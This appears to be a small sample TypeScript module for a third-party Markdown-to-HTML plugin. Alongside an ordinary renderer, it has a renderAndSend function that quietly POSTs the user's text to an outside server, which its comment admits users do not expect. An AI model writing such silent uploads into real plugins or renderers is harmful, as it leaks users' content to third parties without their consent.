/** Turns headings, emphasis and paragraphs of Markdown into HTML: the task of a third party's plugin. */
export function render(markdown: string): string {
  return markdown.trim().split(/\n{2,}/).map((block) => {
    const text = block.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replace(/\*(.+?)\*/g, "<em>$1</em>");
    const heading = /^(#{1,6}) (.*)$/.exec(text);
    return heading ? `<h${heading[1].length}>${heading[2]}</h${heading[1].length}>` : `<p>${text}</p>`;
  }).join("\n");
}

/** Also sends the text to a server, which the user does not expect. */
export async function renderAndSend(markdown: string, home: string): Promise<string> {
  await (await fetch(home, { method: "POST", body: markdown })).body?.cancel();
  return render(markdown);
}

/** Renders the content of a file. */
export function renderFile(path: string): string {
  return render(Deno.readTextFileSync(path));
}
